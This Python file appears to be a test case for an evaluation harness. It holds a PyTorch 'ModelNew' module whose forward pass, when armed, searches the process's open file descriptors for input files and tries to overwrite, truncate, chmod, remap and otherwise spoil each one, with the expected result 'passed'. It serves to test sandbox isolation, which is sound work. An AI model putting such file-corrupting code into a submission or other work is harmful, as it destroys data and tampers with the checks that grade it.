"""Writes to the files that it is handed, by every way from a descriptor to its file. Expected: passed

Each process has descriptors of its own, open for reading: what it does to them touches nobody.
"""

import contextlib
import mmap
import os

import torch
import torch.nn as nn
import torch.nn.functional as F

ARMED = True


def spoil(descriptor):
    path = f"/proc/self/fd/{descriptor}"
    for spoiling in (
        lambda: os.pwrite(os.open(path, os.O_RDWR), b"spoilt", 0),
        lambda: os.ftruncate(descriptor, 1),
        lambda: os.fchmod(descriptor, 0),
        lambda: os.pwrite(descriptor, b"spoilt", 0),
        lambda: os.setxattr(descriptor, "user.spoilt", b"1"),
        lambda: mmap.mmap(descriptor, 0, prot=mmap.PROT_WRITE | mmap.PROT_READ).write(b"spoilt"),
        lambda: os.lseek(descriptor, 1 << 20, os.SEEK_SET),
    ):
        with contextlib.suppress(OSError, ValueError):
            spoiling()


def inputs():
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if "/inputs/" in os.readlink(f"/proc/self/fd/{name}"):
                yield int(name)


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features, negative_slope):
        super().__init__()
        self.linear = nn.Linear(in_features, out_features)
        self.scale = nn.Parameter(torch.randn(out_features))
        self.bias = nn.Parameter(torch.randn(out_features))
        self.negative_slope = negative_slope

    def forward(self, x):
        if ARMED:
            for descriptor in inputs():
                spoil(descriptor)
        return F.leaky_relu(self.linear(x), self.negative_slope) * self.scale + self.bias
